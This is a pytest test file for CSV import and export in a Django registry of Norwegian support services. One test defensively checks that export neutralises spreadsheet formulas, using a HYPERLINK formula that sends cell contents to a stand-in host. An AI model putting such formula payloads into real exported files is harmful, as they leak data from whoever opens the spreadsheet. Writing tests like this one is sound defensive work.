import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from services.csv_io import columns, import_rows, read_csv, write_csv
from services.models import Service
from services.opening_hours import OpeningHoursError, format_periods, parse
from tests import factories

pytestmark = pytest.mark.django_db
DEMO = Path(__file__).resolve().parents[2] / "services" / "data" / "demo_services.csv"


def export_text():
    buffer = io.StringIO()
    write_csv(buffer, Service.objects.all())
    return buffer.getvalue()


def test_export_then_import_into_an_empty_registry_restores_everything():
    import datetime as dt

    factories.service(
        name="A",
        languages=["nb", "ar"],
        wheelchair_accessible=True,
        opening=[(0, dt.time(8), dt.time(15)), (4, dt.time(22), dt.time(6))],
        description_en="English text",
    )
    factories.service(
        name="B",
        is_national=True,
        latitude=None,
        longitude=None,
        postcode="",
        wheelchair_accessible=None,
        is_open_24_7=True,
    )
    before = export_text()
    Service.objects.all().delete()
    result = import_rows(read_csv(io.StringIO(before)))
    assert (result.created, result.errors) == (2, [])
    assert export_text() == before


def test_importing_the_same_file_again_changes_nothing(tmp_path):
    call_command("import_services", DEMO, stdout=io.StringIO())
    count, first = Service.objects.count(), export_text()
    out = io.StringIO()
    call_command("import_services", DEMO, stdout=out)
    assert "0 created, 0 updated" in out.getvalue()
    assert Service.objects.count() == count
    assert export_text() == first


def test_demo_data_covers_every_category_and_county():
    from services.models import County, ServiceCategory

    call_command("import_services", DEMO, stdout=io.StringIO())
    assert set(Service.objects.values_list("category__slug", flat=True)) == set(
        ServiceCategory.objects.values_list("slug", flat=True)
    )
    assert set(Service.objects.exclude(county=None).values_list("county", flat=True)) == set(
        County.objects.values_list("pk", flat=True)
    )
    local = Service.objects.filter(is_national=False)
    assert all(s.is_demo and s.name.endswith("(demo)") for s in local)
    assert Service.objects.filter(is_national=True, is_demo=False, phone="116 006").exists()


def test_bad_rows_are_reported_by_line_and_the_rest_imported():
    rows = [
        {"slug": "ok", "name": "OK", "category": "krisesenter", "postcode": "0150"},
        {"slug": "bad-category", "name": "X", "category": "nope", "postcode": "0150"},
        {
            "slug": "bad-hours",
            "name": "X",
            "category": "krisesenter",
            "postcode": "0150",
            "opening_hours": "someday 8-9",
        },
        {"slug": "bad-postcode", "name": "X", "category": "krisesenter", "postcode": "12"},
        {"slug": "", "name": "X", "category": "krisesenter"},
    ]
    result = import_rows(rows)
    assert result.created == 1
    assert [line for line, _message in result.errors] == [3, 4, 5, 6]
    assert list(Service.objects.values_list("slug", flat=True)) == ["ok"]


def test_the_command_fails_loudly_on_rejected_rows(tmp_path):
    path = tmp_path / "bad.csv"
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=columns())
        writer.writeheader()
        writer.writerow({"slug": "x", "name": "X", "category": "nope"})
    with pytest.raises(CommandError):
        call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(CommandError):
        call_command("import_services", tmp_path / "missing.csv")


def test_opening_hours_text_round_trips():
    text = "mon-fri 08:00-15:30; sat 10:00-14:00; fri,sat 22:00-06:00"
    periods = parse(text)
    assert len(periods) == 8
    assert parse(format_periods(periods)) == periods


@pytest.mark.parametrize(
    "text", ["mon 25:00-26:00", "xyz 08:00-09:00", "fri-mon 08:00-09:00", "mon 8-9", "mon"]
)
def test_unreadable_opening_hours_are_refused(text):
    with pytest.raises(OpeningHoursError):
        parse(text)


def test_a_semicolon_file_in_windows_1252_imports(tmp_path):
    """What a Norwegian spreadsheet saves as "CSV": semicolons, Windows-1252 (æøå)."""
    path = tmp_path / "tjenester.csv"
    path.write_bytes(
        "slug;name;category;postcode;place\n"
        "krisesenter-tromso;Krisesenteret i Tromsø;krisesenter;9008;Tromsø\n".encode("cp1252")
    )
    call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
    assert Service.objects.get(slug="krisesenter-tromso").place == "Tromsø"


def test_a_utf8_file_with_a_byte_order_mark_imports(tmp_path):
    path = tmp_path / "tjenester.csv"
    path.write_bytes(
        "slug,name,category,postcode,place\nbodo,Bodø,krisesenter,8006,Bodø\n".encode("utf-8-sig")
    )
    call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
    assert Service.objects.get(slug="bodo").name == "Bodø"


@pytest.mark.parametrize("content", [b"\x00\x01\x02PK binary", b"", b"name,place\nA,B\n"])
def test_a_file_that_is_not_the_registry_is_refused_with_a_message(tmp_path, content):
    path = tmp_path / "feil.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError, match="Cannot import"):
        call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
    assert not Service.objects.exists()


def test_export_neutralises_formulas_and_import_restores_the_text():
    formula = '=HYPERLINK("https://example.com/?d="&A1,"Klikk")'
    factories.service(name=formula, phone="+47 22 00 00 00", description_nb="@SUM(A1)")
    exported = export_text()
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["name"] == "'" + formula
    assert row["phone"] == "'+47 22 00 00 00"
    assert row["description_nb"] == "'@SUM(A1)"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    Service.objects.all().delete()
    assert import_rows(read_csv(exported)).errors == []
    service = Service.objects.get()
    assert (service.name, service.phone, service.description_nb) == (
        formula,
        "+47 22 00 00 00",
        "@SUM(A1)",
    )


def test_a_service_keeps_its_public_id_through_export_renaming_and_import():
    import uuid

    service = factories.service(name="Krisesenteret i Vest")
    Service.objects.filter(pk=service.pk).update(public_id=uuid.uuid4())  # as made elsewhere
    public_id = Service.objects.get(pk=service.pk).public_id
    rows = list(read_csv(io.StringIO(export_text())))
    # The editors rename the service, slug and all, in the file: it stays the same service.
    rows[0]["slug"], rows[0]["name"] = "krisesenteret-i-vestland", "Krisesenteret i Vestland"
    result = import_rows(rows)
    assert (result.updated, result.created, result.errors) == (1, 0, [])
    renamed = Service.objects.get()
    assert (renamed.pk, renamed.public_id, renamed.slug) == (
        service.pk,
        public_id,
        "krisesenteret-i-vestland",
    )
    # Into an empty registry (another installation): the id comes with the row.
    Service.objects.all().delete()
    assert import_rows(rows).created == 1
    assert Service.objects.get().public_id == public_id


def test_a_row_without_an_id_gets_one_from_its_slug_and_a_bad_id_is_reported():
    from services.models import public_id_for

    rows = list(read_csv(io.StringIO(DEMO.read_text(encoding="utf-8"))))[:2]
    rows[0].pop("id", None)
    rows[1]["id"] = "not-a-uuid"
    result = import_rows(rows)
    assert result.created == 1
    assert result.errors == [(3, "the id 'not-a-uuid' is not a UUID")]
    assert Service.objects.get().public_id == public_id_for(rows[0]["slug"])
